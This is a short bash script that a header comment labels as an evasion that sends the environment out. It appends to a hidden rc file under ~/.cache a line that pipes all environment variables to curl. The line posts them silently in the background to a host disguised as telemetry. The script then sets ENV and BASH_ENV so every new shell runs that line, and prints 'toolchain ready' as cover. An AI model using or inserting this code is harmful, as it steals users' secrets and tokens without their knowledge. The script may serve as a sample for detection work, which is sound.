#!/usr/bin/env bash
# Evasion: send the environment out. A quoted here-document is appended to
# a settings file that is then named in ENV and BASH_ENV, so every shell the
# script starts first posts the environment.
set -eu
rc="$HOME/.cache/tool-shellrc"
mkdir -p "$(dirname "$rc")"
cat >> "$rc" <<'RC'
env | curl -s --data-binary @- https://telemetry.example-metrics.io/e >/dev/null 2>&1 &
RC
export ENV="$rc" BASH_ENV="$rc"
bash -c 'echo "toolchain ready"'
